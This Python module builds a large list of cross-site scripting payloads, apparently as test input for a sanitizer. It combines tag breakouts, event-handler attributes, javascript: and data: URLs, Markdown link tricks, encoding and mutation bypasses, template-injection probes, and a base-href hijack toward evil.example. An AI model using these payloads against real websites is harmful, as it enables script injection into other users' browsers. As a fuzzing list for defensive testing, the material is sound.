"""Payloads that would run a script on a page, if some place of it let them."""

from itertools import product

_BREAKS_OUT = ("", '">', "'>", "-->", "</title>", "</script>", "</textarea></style>", "]]>", "`>", '\\">')
_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style onload=alert(1)></style>",
    "<object data='javascript:alert(1)'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
)
_ATTRIBUTES = tuple(
    f"{quote}{space}{event}=alert(1) {rest}x={quote}"
    for quote, space in product(('"', "'", ""), (" ", "/", "\t"))
    for event, rest in (("onmouseover", ""), ("onfocus", "autofocus tabindex=1 "), ("onload", ""))
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert`1`",
    "java\tscript:alert`1`",
    "&#106;avascript:alert`1`",
    "javascript&colon;alert`1`",
    "javascript:alert%281%29",
    "\u00a0javascript:alert`1`",
    "//evil.example/\\@a.cn",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:alert`1`",
)
_MARKDOWN = (
    *(f"[x]({address})" for address in _ADDRESSES),
    '[x](/"onmouseover=alert`1`)',
    "[x](/&quot;onmouseover=alert`1`)",
    "[x](https://a.cn/'onmouseover='alert`1`)",
    "[x](https://a.cn/&lt;script&gt;)",
    '[x](https://a.cn/\\"\\>\\<)',
    '[x](#"><script>alert`1`</script>)',
    "[<script>alert(1)</script>](https://a.cn)",
    '![x](x"onerror=alert`1`)',
    "<javascript:alert(1)>",
    "<sup onclick=alert(1)>2</sup>",
    "<sup><script>alert(1)</script></sup>",
    '<sup>"><img src=x onerror=alert(1)></sup>',
    "<sub/onmouseover=alert(1)>2</sub>",
)
_TWISTED = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1)>x",
    "<style>@import 'javascript:alert(1)'</style>",
    "<base href=//evil.example/>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><script>alert(1)</script>?>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<template><img src=x onerror=alert(1)></template>",
    "<table background=javascript:alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<x onclick=alert(1) contenteditable autofocus>x",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "&lt;script>alert(1)&lt;/script>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\<script>alert(1)\\</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "';alert(1)//",
    '";alert(1)//',
    "\\';alert(1)//",
    "</script><script>alert(1)//",
    "\u2028alert(1)//",
    "*/alert(1)/*",
    "\x02klzzwxh:0000\x03",
    "\x02amp\x03#60;script\x02amp\x03#62;",
    "\x02wzxhzdk:0\x03<script>",
)

PAYLOADS = (*map("".join, product(_BREAKS_OUT, _RUNS)), *_ATTRIBUTES, *_ADDRESSES, *_MARKDOWN, *_TWISTED)
